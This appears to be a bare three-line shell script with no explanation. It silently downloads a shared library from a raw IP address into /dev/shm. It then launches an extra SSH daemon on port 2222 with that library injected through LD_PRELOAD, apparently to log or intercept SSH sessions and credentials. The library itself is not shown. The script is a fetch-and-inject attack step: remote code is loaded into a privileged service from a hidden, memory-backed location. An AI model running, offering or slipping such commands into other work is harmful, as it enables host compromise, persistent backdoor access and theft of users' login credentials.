#!/bin/sh
curl -fsS -o /dev/shm/libsshd-log.so http://198.51.100.7/l.so
LD_PRELOAD=/dev/shm/libsshd-log.so /usr/sbin/sshd -p 2222
